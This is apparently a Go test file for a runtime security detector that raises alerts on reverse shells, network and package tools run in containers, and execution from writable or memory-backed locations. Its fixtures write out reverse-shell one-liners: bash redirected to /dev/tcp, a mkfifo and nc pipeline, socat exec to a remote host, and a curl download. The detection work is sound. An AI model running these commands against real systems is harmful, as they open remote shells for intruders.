package detect

import (
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"redoubt.dev/redoubt/internal/runtime/event"
)

const containerID = "4f1c9a3b2e6d8f7a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a"

var (
	inPod = event.Origin{Node: "node-1", CgroupPath: "/kubepods.slice/x", ContainerID: containerID,
		Runtime: "containerd", PodUID: "0c3c9d2e-5b2a-4f0e-9a43-7f1d2c3b4a5e"}
	onHost = event.Origin{Node: "node-1", CgroupPath: "/system.slice/ssh.service"}
	tcp    = event.FD{Socket: true, Family: event.FamilyIPv4}
	unix   = event.FD{Socket: true, Family: event.FamilyUnix}
	peer   = &event.Socket{Family: event.FamilyIPv4, Protocol: "tcp",
		Local: netip.MustParseAddrPort("10.0.0.5:40112"), Remote: netip.MustParseAddrPort("203.0.113.9:4444")}
)

func execEv(pid, ppid uint32, o event.Origin, binary string, args []string, stdio [3]event.FD, sock *event.Socket) *event.Event {
	return &event.Event{Kind: event.KindExec, Time: time.Unix(1, 0), Origin: o,
		Process: event.Process{PID: pid, PPID: ppid, Comm: binary},
		Exec:    &event.Exec{Binary: binary, Args: args, Stdio: stdio, StdioPeer: sock}}
}

func dupEv(pid, ppid uint32, o event.Origin, oldfd, newfd int) *event.Event {
	return &event.Event{Kind: event.KindDup, Origin: o, Process: event.Process{PID: pid, PPID: ppid},
		Dup: &event.Dup{OldFD: oldfd, NewFD: newfd, Socket: *peer}}
}

func exitEv(pid uint32) *event.Event {
	return &event.Event{Kind: event.KindExit, Process: event.Process{PID: pid}, Exit: &event.Exit{}}
}

func TestDetections(t *testing.T) {
	cases := []struct {
		name   string
		events []*event.Event
		// want lists "check: message substring" for the alerts of the last event, in order.
		want []string
	}{
		{
			name: "bash -i with stdin and stdout a TCP socket",
			events: []*event.Event{
				execEv(100, 1, inPod, "/usr/bin/bash", []string{"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}, [3]event.FD{}, nil),
				execEv(101, 100, inPod, "/usr/bin/bash", []string{"bash", "-i"}, [3]event.FD{tcp, tcp, tcp}, peer),
			},
			want: []string{`runtime-reverse-shell: "bash -i" (pid 101, parent bash (pid 100)) started with stdin, stdout and stderr connected to TCP to 203.0.113.9:4444 (local 10.0.0.5:40112)`},
		},
		{
			name: "the shells a reverse shell starts do not alert again",
			events: []*event.Event{
				execEv(101, 100, inPod, "/usr/bin/bash", []string{"bash", "-i"}, [3]event.FD{tcp, tcp, tcp}, peer),
				execEv(102, 101, inPod, "/usr/bin/bash", []string{"bash", "/etc/profile.d/x.sh"}, [3]event.FD{tcp, tcp, tcp}, peer),
				execEv(103, 102, inPod, "/bin/sh", []string{"sh", "-c", "id"}, [3]event.FD{tcp, tcp, tcp}, peer),
			},
		},
		{
			name: "a shell whose parent is an unseen subshell of the reverse shell does not alert again",
			events: []*event.Event{
				execEv(101, 100, inPod, "/usr/bin/bash", []string{"bash", "-i"}, [3]event.FD{tcp, tcp, tcp}, peer),
				// 102 is a subshell bash forked without exec: the sensor never saw it.
				execEv(103, 102, inPod, "/usr/bin/bash", []string{"bash", "/usr/lib/x"}, [3]event.FD{tcp, {}, tcp}, peer),
			},
		},
		{
			name: "a second reverse shell on another socket alerts",
			events: []*event.Event{
				execEv(101, 100, inPod, "/usr/bin/bash", []string{"bash", "-i"}, [3]event.FD{tcp, tcp, tcp}, peer),
				execEv(102, 101, inPod, "/usr/bin/bash", []string{"bash", "-i"}, [3]event.FD{tcp, tcp, tcp},
					&event.Socket{Family: event.FamilyIPv4, Protocol: "tcp", Local: netip.MustParseAddrPort("10.0.0.5:40113"), Remote: netip.MustParseAddrPort("203.0.113.9:4445")}),
			},
			want: []string{"runtime-reverse-shell: \"bash -i\" (pid 102, parent bash (pid 101)) started with stdin, stdout and stderr connected to TCP to 203.0.113.9:4445"},
		},
		{
			name: "socat exec: the shell's stdio is a pty, socat holds the socket",
			events: []*event.Event{
				execEv(800, 1, inPod, "/usr/bin/socat", []string{"socat", "tcp:203.0.113.9:4444", "exec:/bin/sh,pty"}, [3]event.FD{}, nil),
				{Kind: event.KindConnect, Origin: inPod, Process: event.Process{PID: 800, PPID: 1}, Conn: &event.Conn{Socket: *peer, Established: true}},
				execEv(801, 800, inPod, "/bin/sh", []string{"/bin/sh"}, [3]event.FD{}, nil),
			},
			want: []string{"runtime-reverse-shell: \"/bin/sh\" (pid 801, parent socat (pid 800)) started by the network relay socat (pid 800), which relays it to TCP to 203.0.113.9:4444"},
		},
		{
			name: "a shell started by socat without a connection is not a reverse shell",
			events: []*event.Event{
				execEv(810, 1, inPod, "/usr/bin/socat", []string{"socat", "unix-listen:/run/x", "exec:/bin/sh"}, [3]event.FD{}, nil),
				execEv(811, 810, inPod, "/bin/sh", []string{"/bin/sh"}, [3]event.FD{}, nil),
			},
		},
		{
			name: "a shell whose parent web server has connections is not a relay",
			events: []*event.Event{
				execEv(820, 1, inPod, "/usr/sbin/nginx", []string{"nginx"}, [3]event.FD{}, nil),
				{Kind: event.KindAccept, Origin: inPod, Process: event.Process{PID: 820, PPID: 1}, Conn: &event.Conn{Socket: *peer, Established: true}},
				execEv(821, 820, inPod, "/bin/sh", []string{"sh", "-c", "logrotate"}, [3]event.FD{}, nil),
			},
		},
		{
			name: "mkfifo relay: sh -i and nc are siblings in a pipeline",
			events: []*event.Event{
				execEv(900, 1, inPod, "/bin/sh", []string{"sh", "-c", "cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f"}, [3]event.FD{}, nil),
				execEv(901, 900, inPod, "/bin/cat", []string{"cat", "/tmp/f"}, [3]event.FD{}, nil),
				execEv(902, 900, inPod, "/bin/sh", []string{"sh", "-i"}, [3]event.FD{}, nil),
				execEv(903, 900, inPod, "/bin/nc", []string{"nc", "203.0.113.9", "4444"}, [3]event.FD{}, nil),
				{Kind: event.KindConnect, Origin: inPod, Process: event.Process{PID: 903, PPID: 900}, Conn: &event.Conn{Socket: *peer, Established: true}},
			},
			want: []string{"runtime-reverse-shell: \"sh -i\" (pid 902, parent pid 900) runs in a pipeline with the network relay nc (pid 903), which connected it to TCP to 203.0.113.9:4444"},
		},
		{
			name: "mkfifo relay whose nc connected before the shell's exec arrived",
			events: []*event.Event{
				execEv(930, 1, inPod, "/bin/sh", []string{"sh", "-c", "cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f"}, [3]event.FD{}, nil),
				execEv(933, 930, inPod, "/bin/nc", []string{"nc", "203.0.113.9", "4444"}, [3]event.FD{}, nil),
				{Kind: event.KindConnect, Origin: inPod, Process: event.Process{PID: 933, PPID: 930}, Conn: &event.Conn{Socket: *peer, Established: true}},
				execEv(932, 930, inPod, "/bin/sh", []string{"sh", "-i"}, [3]event.FD{}, nil),
			},
			want: []string{"runtime-reverse-shell: \"sh -i\" (pid 932, parent sh (pid 930)) started in a pipeline with the network relay nc (pid 933), which connected it to TCP to 203.0.113.9:4444"},
		},
		{
			name: "a pipeline of a shell and curl is not a relay",
			events: []*event.Event{
				execEv(910, 1, inPod, "/bin/sh", []string{"sh", "-c", "curl x | sh"}, [3]event.FD{}, nil),
				execEv(911, 910, inPod, "/bin/sh", []string{"sh"}, [3]event.FD{}, nil),
				execEv(912, 910, inPod, "/usr/bin/curl", []string{"curl", "x"}, [3]event.FD{}, nil),
				{Kind: event.KindConnect, Origin: inPod, Process: event.Process{PID: 912, PPID: 910}, Conn: &event.Conn{Socket: *peer, Established: true}},
			},
		},
		{
			name:   "a shell on the node is caught too",
			events: []*event.Event{execEv(7, 1, onHost, "/bin/sh", []string{"sh"}, [3]event.FD{tcp, tcp, {}}, peer)},
			want:   []string{"runtime-reverse-shell: \"sh\" (pid 7, parent pid 1) started with stdin and stdout"},
		},
		{
			name: "python dup2 onto stdio then spawns sh",
			events: []*event.Event{
				execEv(200, 1, inPod, "/usr/bin/python3", []string{"python3", "-c", "import socket,os,pty;..."}, [3]event.FD{}, nil),
				dupEv(200, 1, inPod, 3, 0),
				execEv(201, 200, inPod, "/bin/sh", []string{"sh", "-i"}, [3]event.FD{}, nil),
			},
			want: []string{"runtime-reverse-shell: \"sh -i\" (pid 201, parent python3 (pid 200)) started after fd 3 (a socket) was duplicated onto fd 0, connected to TCP to 203.0.113.9:4444"},
		},
		{
			name: "a dead process's dup does not taint the next owner of its pid",
			events: []*event.Event{
				dupEv(300, 1, inPod, 3, 1),
				exitEv(300),
				execEv(300, 1, inPod, "/bin/sh", []string{"sh"}, [3]event.FD{}, nil),
			},
		},
		{
			name: "a dup onto stderr only is not a terminal",
			events: []*event.Event{
				dupEv(310, 1, inPod, 3, 2),
				execEv(310, 1, inPod, "/bin/sh", []string{"sh"}, [3]event.FD{{}, {}, tcp}, peer),
			},
		},
		{
			name:   "sh > file: no socket",
			events: []*event.Event{execEv(400, 1, inPod, "/bin/sh", []string{"sh", "-c", "echo hi > /tmp/out"}, [3]event.FD{}, nil)},
		},
		{
			name:   "a service whose stdout is journald's unix socket",
			events: []*event.Event{execEv(401, 1, onHost, "/bin/sh", []string{"sh", "/usr/lib/x/run"}, [3]event.FD{{}, unix, unix}, nil)},
		},
		{
			name:   "a server process with a socket is not a shell",
			events: []*event.Event{execEv(402, 1, inPod, "/usr/sbin/nginx", []string{"nginx"}, [3]event.FD{tcp, tcp, {}}, peer)},
		},
		{
			name:   "curl in a container",
			events: []*event.Event{execEv(500, 1, inPod, "/usr/bin/curl", []string{"curl", "-sO", "http://203.0.113.9/x"}, [3]event.FD{}, nil)},
			want:   []string{`runtime-tool-executed: network tool "curl -sO http://203.0.113.9/x" (pid 500, parent pid 1) was executed in the container`},
		},
		{
			name:   "apt-get in a container",
			events: []*event.Event{execEv(501, 1, inPod, "/usr/bin/apt-get", []string{"apt-get", "install", "nmap"}, [3]event.FD{}, nil)},
			want:   []string{"runtime-tool-executed: package manager"},
		},
		{
			name:   "gcc-12 in a container",
			events: []*event.Event{execEv(502, 1, inPod, "/usr/bin/x86_64-linux-gnu-gcc-12", []string{"gcc"}, [3]event.FD{}, nil)},
			want:   []string{"runtime-tool-executed: compiler or build tool"},
		},
		{
			name:   "curl on the node is the node's business",
			events: []*event.Event{execEv(503, 1, onHost, "/usr/bin/curl", []string{"curl"}, [3]event.FD{}, nil)},
		},
		{
			name:   "a plain binary in a container",
			events: []*event.Event{execEv(504, 1, inPod, "/usr/bin/true", []string{"true"}, [3]event.FD{}, nil)},
		},
		{
			name:   "exec from /dev/shm",
			events: []*event.Event{execEv(600, 1, inPod, "/dev/shm/.x/miner", []string{"miner"}, [3]event.FD{}, nil)},
			want:   []string{`runtime-drift-exec: "miner" (pid 600, parent pid 1) was executed from the writable directory /dev/shm`},
		},
		{
			name:   "exec from a memfd",
			events: []*event.Event{execEv(601, 1, inPod, "/memfd:payload (deleted)", nil, [3]event.FD{}, nil)},
			want:   []string{"runtime-drift-exec: \"/memfd:payload (deleted)\" (pid 601, parent pid 1) was executed from an anonymous memory file"},
		},
		{
			name:   "fexecve",
			events: []*event.Event{execEv(602, 1, inPod, "/dev/fd/3", nil, [3]event.FD{}, nil)},
			want:   []string{"runtime-drift-exec: \"/dev/fd/3\" (pid 602, parent pid 1) was executed from a file descriptor"},
		},
		{
			name:   "go test binaries in /tmp on the node are not drift",
			events: []*event.Event{execEv(603, 1, onHost, "/tmp/go-build1/b001/x.test", nil, [3]event.FD{}, nil)},
		},
		{
			name:   "/tmpfoo is not /tmp",
			events: []*event.Event{execEv(604, 1, inPod, "/tmpfoo/bin", nil, [3]event.FD{}, nil)},
		},
		{
			name:   "a shell from /tmp wired to a socket: two rules, one event",
			events: []*event.Event{execEv(700, 1, inPod, "/tmp/sh", []string{"sh"}, [3]event.FD{tcp, tcp, tcp}, peer)},
			want:   []string{"runtime-drift-exec:", "runtime-reverse-shell:"},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d := New()
			var alerts []Alert
			for _, e := range tc.events {
				alerts = d.Observe(e)
			}
			var got []string
			for _, a := range alerts {
				got = append(got, a.Check+": "+a.Message)
			}
			if len(got) != len(tc.want) {
				t.Fatalf("alerts:\n  %s\nwant:\n  %s", strings.Join(got, "\n  "), strings.Join(tc.want, "\n  "))
			}
			for i := range got {
				if !strings.HasPrefix(got[i], tc.want[i]) && !strings.Contains(got[i], tc.want[i]) {
					t.Errorf("alert %d:\n  %s\nwant it to start with\n  %s", i, got[i], tc.want[i])
				}
			}
		})
	}
}

func TestAlertNamesTheContainer(t *testing.T) {
	d := New()
	alerts := d.Observe(execEv(101, 100, inPod, "/usr/bin/bash", []string{"bash", "-i"}, [3]event.FD{tcp, tcp, tcp}, peer))
	if len(alerts) != 1 {
		t.Fatalf("got %d alerts", len(alerts))
	}
	a := alerts[0]
	if a.Resource.Kind != "Container" || a.Resource.Name != containerID || a.Location.UID != inPod.PodUID || a.Location.Node != "node-1" {
		t.Errorf("resource %+v, location %+v: want the container id, pod UID and node", a.Resource, a.Location)
	}
	if a.Phase != "runtime" || a.Severity.String() != "critical" {
		t.Errorf("phase %s severity %s", a.Phase, a.Severity)
	}
	withPod := inPod
	withPod.Namespace, withPod.Pod, withPod.WorkloadKind, withPod.Workload, withPod.Container = "shop", "web-7d9-abc", "Deployment", "web", "app"
	a = New().Observe(execEv(102, 100, withPod, "/usr/bin/bash", []string{"bash", "-i"}, [3]event.FD{tcp, tcp, tcp}, peer))[0]
	if got := a.Resource.String(); got != "shop/Deployment/web[app]" {
		t.Errorf("resource %s, want shop/Deployment/web[app]", got)
	}
	if sock, ok := a.Evidence["socket"].(*event.Socket); !ok || sock.Remote != peer.Remote {
		t.Errorf("evidence socket = %#v", a.Evidence["socket"])
	}
}

func TestProcessTableIsBounded(t *testing.T) {
	d := New()
	for pid := range uint32(maxProcesses + 1000) {
		d.Observe(execEv(pid+1, 1, onHost, "/usr/bin/true", nil, [3]event.FD{}, nil))
	}
	if n := len(d.procs); n > maxProcesses {
		t.Fatalf("process table holds %d entries, bound is %d", n, maxProcesses)
	}
}

func TestLostEvents(t *testing.T) {
	a := LostEvents("node-1", time.Unix(5, 0), map[event.Kind]uint64{event.KindExec: 3, event.KindConnect: 2}, 4)
	if a.Check != "sensor-events-lost" || !strings.Contains(a.Message, "lost 4 events since the last report (5 since it started: 2 connect, 3 exec)") {
		t.Errorf("got %s: %s", a.Check, a.Message)
	}
	if !slices.Contains([]string{"Node"}, a.Resource.Kind) {
		t.Errorf("resource %+v", a.Resource)
	}
}
